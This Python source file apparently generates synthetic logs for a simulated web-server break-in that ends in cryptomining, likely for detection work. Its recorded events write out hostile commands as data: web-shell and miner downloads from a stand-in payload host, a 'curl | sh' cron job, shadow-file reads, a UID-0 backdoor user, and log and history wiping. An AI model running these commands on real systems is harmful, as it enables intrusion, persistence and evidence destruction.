"""The miner scenario: a guessed password on a web server, and its processors work for somebody else.

Each method is a step of the story or a few; miner_story.py tells them.
"""

from __future__ import annotations

from sample_data.benign_farm import Farm
from sample_data.benign_metrics import Metrics, cpu, load
from sample_data.benign_traffic import Traffic
from sample_data.farm import (
    ATTACKER,
    DB,
    PAYLOAD,
    POOL,
    RESOLVER,
    ROOT,
    SHOP,
    WEB1,
    WEB2,
    WEB3,
    WEBADMIN,
    WWW,
)
from sample_data.linux import Linux
from sample_data.miner_story import STORY
from sample_data.network import Network
from sample_data.record import Recorder, Written
from sample_data.story import Story
from sample_data.world import HOUR, MILLI, MINUTE, SECOND, Day, Dice

_MINER = "/tmp/.X11-unix/kworkerds"  # noqa: S108
_WALLET = "44Kx7TESTwalletNOTrealQm3vB9sLr8dXy2Zp5hNf6cJt1gW4eUaRoViPqSbDnEmFkGhYjTzCxAqWs2dRfVtGbHnJm"
_ARGUMENTS = [
    _MINER,
    "-o",
    f"stratum+tcp://{POOL[0]}:3333",
    "-u",
    _WALLET,
    "-p",
    "x",
    "--donate-level=0",
    "--cpu-max-threads-hint=95",
    "-B",
]
_PATHS = (
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/",
    "/admin.php",
    "/backup.sql",
    "/config.bak",
    "/server-status",
    "/uploads/",
    "/old/",
    "/test.php",
    "/info.php",
    "/shell.php",
    "/cgi-bin/",
    "/.svn/entries",
    "/db.sql",
    "/console",
    "/manager/html",
    "/solr/",
    "/actuator/env",
    "/api/.env",
    "/vendor/phpunit/",
    "/web.config",
    "/dump.tar.gz",
)


def miner(seed: int) -> tuple[Story, Written]:
    day = Day(STORY.date)
    recorder = Recorder(day)

    def tools(name: str) -> tuple[Dice, Linux, Network]:
        dice = Dice(seed, f"miner/{name}")
        return dice, Linux(recorder, dice), Network(recorder, dice, tagged=False, resolver=RESOLVER)

    dice, linux, network = tools("farm")
    Farm(day, linux, dice).run()
    dice, linux, network = tools("traffic")
    Traffic(day, network, dice).run()
    dice, linux, network = tools("metrics")
    Metrics(day, linux, dice, (WEB1, day.at("02:54:30"))).run()
    dice, linux, network = tools("attack")
    Attack(day, recorder, linux, network, dice).run()
    return STORY, recorder.write()


class Attack:
    def __init__(self, day: Day, recorder: Recorder, linux: Linux, network: Network, dice: Dice) -> None:
        self.day, self.step, self.linux, self.network, self.dice = day, recorder.step, linux, network, dice

    def run(self) -> None:
        self.knock()
        self.guess()
        self.web_shell()
        self.become_root()
        self.stay()
        self.mine()
        self.cron()
        self.spread()
        self.hide()

    def knock(self) -> None:
        time = self.day.at("01:52:10")
        with self.step("mnr-01"):
            for index in range(240):
                path = _PATHS[index % len(_PATHS)] if index < 96 else f"/{self.dice.letters(6).lower()}.php"
                self.network.web(
                    time,
                    ATTACKER,
                    (SHOP, WEB1.ip),
                    "GET",
                    path,
                    "Mozilla/5.0 (compatible; dirfuzz/2.1)",
                    404,
                    received=162,
                )
                time += self.dice.between(900, 2_100) * MILLI

    def guess(self) -> None:
        lx, dice = self.linux, self.dice
        names = ("root", "admin", "ubuntu", "test", "webadmin", "deploy", "www", "backup", "git", "oracle")
        time, port = self.day.at("02:05:02"), 40_000
        with self.step("mnr-02"):
            for _ in range(380):
                name, port = dice.one(names), port + dice.between(2, 30)
                lx.ssh_failed(time, WEB1, name, ATTACKER, name in ("root", "webadmin", "deploy"), port)
                if dice.chance(0.15):
                    self.network.connection(
                        time - SECOND,
                        ATTACKER,
                        WEB1.ip,
                        22,
                        1_900,
                        2_600,
                        4 * SECOND,
                        "ssh",
                        source_port=port,
                    )
                time += dice.between(2_400, 3_550) * MILLI
        with self.step("mnr-03"):
            lx.ssh(self.day.at("02:24:31.218"), WEB1, WEBADMIN, ATTACKER, "password", seconds=52 * 60)
            self.network.connection(
                self.day.at("02:24:30"), ATTACKER, WEB1.ip, 22, 92_000, 140_000, 52 * MINUTE, "ssh"
            )

    def web_shell(self) -> None:
        lx, n, day = self.linux, self.network, self.day
        shell = "/var/www/html/uploads/.cache.php"
        with self.step("mnr-04"):
            time = day.at("02:29:12.040")
            lx.execute(
                time,
                WEB1,
                WEBADMIN,
                ["wget", "-q", f"http://{PAYLOAD[0]}/s.txt", "-O", shell],
                WEBADMIN,
                terminal="pts1",
                title=True,
            )
            n.lookup(time + 20 * MILLI, WEB1.ip, *PAYLOAD)
            n.web(
                time + 60 * MILLI,
                WEB1.ip,
                PAYLOAD,
                "GET",
                "/s.txt",
                "Wget/1.21.3",
                received=1_204,
                mime="text/x-php",
            )
            lx.touch(
                time + 180 * MILLI, WEB1, WEBADMIN, "wget", shell, "web_root", "CREATE", WEBADMIN, "pts1"
            )
        with self.step("mnr-05"):
            time = day.at("02:33:05")
            for command, query in (
                ("id", "id"),
                ("whoami", "whoami"),
                ("uname -a", "uname%20-a"),
                ("cat /etc/passwd", "cat%20/etc/passwd"),
                ("ps aux", "ps%20aux"),
            ):
                n.web(
                    time,
                    ATTACKER,
                    (SHOP, WEB1.ip),
                    "GET",
                    f"/uploads/.cache.php?c={query}",
                    "curl/8.5.0",
                    received=self.dice.between(60, 4_000),
                )
                lx.execute(time + 9 * MILLI, WEB1, WWW, ["sh", "-c", command], None, "/var/www/html/uploads")
                lx.execute(time + 14 * MILLI, WEB1, WWW, command.split(), None, "/var/www/html/uploads")
                time += self.dice.between(9, 31) * SECOND

    def become_root(self) -> None:
        lx, day = self.linux, self.day
        with self.step("mnr-06"):
            lx.sudo(day.at("02:41:20.100"), WEB1, WEBADMIN, "/usr/bin/vim -c :!/bin/sh", "pts/1", 1_900)
            lx.execute(
                day.at("02:41:20.140"),
                WEB1,
                ROOT,
                ["vim", "-c", ":!/bin/sh"],
                WEBADMIN,
                "/home/webadmin",
                "pts1",
            )
            lx.execute(
                day.at("02:41:20.391"),
                WEB1,
                ROOT,
                ["/bin/sh"],
                WEBADMIN,
                "/home/webadmin",
                "pts1",
                exe="/usr/bin/dash",
            )
        with self.step("mnr-07"):
            lx.execute(day.at("02:44:02.700"), WEB1, ROOT, ["cat", "/etc/shadow"], WEBADMIN, "/root", "pts1")
            lx.touch(
                day.at("02:44:02.711"),
                WEB1,
                ROOT,
                "cat",
                "/etc/shadow",
                "shadow",
                "NORMAL",
                WEBADMIN,
                "pts1",
                mode="0100640",
            )

    def stay(self) -> None:
        lx, day = self.linux, self.day
        with self.step("mnr-08"):
            time = day.at("02:46:31.050")
            lx.execute(
                time,
                WEB1,
                ROOT,
                ["useradd", "-o", "-u", "0", "-g", "0", "-M", "-d", "/root", "-s", "/bin/bash", "sysupd"],
                WEBADMIN,
                "/root",
                "pts1",
            )
            lx.auth(
                time + 30 * MILLI,
                WEB1,
                "useradd",
                "new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1",
                lx.pid(),
            )
        with self.step("mnr-09"):
            time = day.at("02:48:15.600")
            lx.execute(
                time, WEB1, ROOT, ["tee", "-a", "/root/.ssh/authorized_keys"], WEBADMIN, "/root", "pts1"
            )
            lx.touch(
                time + 4 * MILLI,
                WEB1,
                ROOT,
                "tee",
                "/root/.ssh/authorized_keys",
                "ssh_keys",
                "NORMAL",
                WEBADMIN,
                "pts1",
                mode="0100600",
            )

    def mine(self) -> None:
        lx, n, day, dice = self.linux, self.network, self.day, self.dice
        with self.step("mnr-10"):
            time = day.at("02:52:10.333")
            lx.execute(
                time,
                WEB1,
                ROOT,
                ["curl", "-s", "-o", _MINER, f"http://{PAYLOAD[0]}/x/kworkerds"],
                WEBADMIN,
                "/root",
                "pts1",
            )
            n.lookup(time + 15 * MILLI, WEB1.ip, *PAYLOAD)
            n.web(
                time + 40 * MILLI,
                WEB1.ip,
                PAYLOAD,
                "GET",
                "/x/kworkerds",
                "curl/7.88.1",
                received=6_210_480,
                mime="application/x-executable",
            )
            lx.execute(time + 9 * SECOND, WEB1, ROOT, ["chmod", "+x", _MINER], WEBADMIN, "/root", "pts1")
        with self.step("mnr-11"):
            lx.execute(day.at("02:54:01.900"), WEB1, ROOT, _ARGUMENTS, WEBADMIN, "/tmp/.X11-unix", "pts1")  # noqa: S108
        with self.step("mnr-12"):
            time = day.at("02:54:02.200")
            while time < day.end:
                n.lookup(time, WEB1.ip, *POOL)
                n.connection(
                    time + 30 * MILLI, WEB1.ip, POOL[1], 3333, 41_000, 96_000, min(HOUR, day.end - time), ""
                )
                time += HOUR + dice.upto(9) * SECOND
        with self.step("mnr-13"):
            time = day.at("02:55:07")
            while time < day.end:
                cpu(lx, time, WEB1, dice.between(9_550, 9_950))
                load(lx, time + MILLI, WEB1, dice.between(780, 860))
                if time // MINUTE % 10 == 5:
                    lx.process_metric(
                        time + 2 * MILLI,
                        WEB1,
                        "kworkerds",
                        " ".join(_ARGUMENTS),
                        dice.between(37_600, 38_400) / 10_000,
                    )
                time += MINUTE

    def cron(self) -> None:
        lx, n, day = self.linux, self.network, self.day
        with self.step("mnr-14"):
            time = day.at("02:58:20.410")
            lx.execute(time, WEB1, ROOT, ["tee", "/etc/cron.d/.sysupd"], WEBADMIN, "/root", "pts1")
            lx.touch(
                time + 3 * MILLI, WEB1, ROOT, "tee", "/etc/cron.d/.sysupd", "cron", "CREATE", WEBADMIN, "pts1"
            )
            time = day.at("03:00:01")
            while time < day.end:
                lx.cron(
                    time + self.dice.upto(400) * MILLI,
                    WEB1,
                    ROOT,
                    f"curl -fsSL http://{PAYLOAD[0]}/x/i.sh | sh",
                )
                n.web(
                    time + 600 * MILLI,
                    WEB1.ip,
                    PAYLOAD,
                    "GET",
                    "/x/i.sh",
                    "curl/7.88.1",
                    received=812,
                    mime="text/x-shellscript",
                )
                time += 30 * MINUTE

    def spread(self) -> None:
        lx, n, day = self.linux, self.network, self.day
        with self.step("mnr-15"):
            for clock, host, works in (
                ("03:04:10", WEB2, True),
                ("03:05:02", WEB3, True),
                ("03:06:30", DB, False),
            ):
                time = day.at(clock) + self.dice.upto(800) * MILLI
                n.connection(time - 800 * MILLI, WEB1.ip, host.ip, 22, 4_000, 5_200, 30 * SECOND, "ssh")
                if works:
                    lx.ssh(time, host, WEBADMIN, WEB1.ip, "password", seconds=41)
                else:
                    for attempt in range(3):
                        lx.ssh_failed(time + attempt * 4 * SECOND, host, WEBADMIN.name, WEB1.ip, known=False)

    def hide(self) -> None:
        lx, day = self.linux, self.day
        with self.step("mnr-16"):
            for clock, command in (
                ("03:10:05.1", "shred -u /root/.bash_history"),
                ("03:10:09.4", "rm -f /home/webadmin/.bash_history"),
                ("03:10:15.8", "truncate -s 0 /var/log/nginx/access.log"),
            ):
                lx.execute(day.at(clock), WEB1, ROOT, command.split(), WEBADMIN, "/root", "pts1")
        with self.step("mnr-17"):
            for clock, command in (("03:12:20.3", "iptables -F"), ("03:12:26.9", "ufw disable")):
                lx.execute(day.at(clock), WEB1, ROOT, command.split(), WEBADMIN, "/root", "pts1")
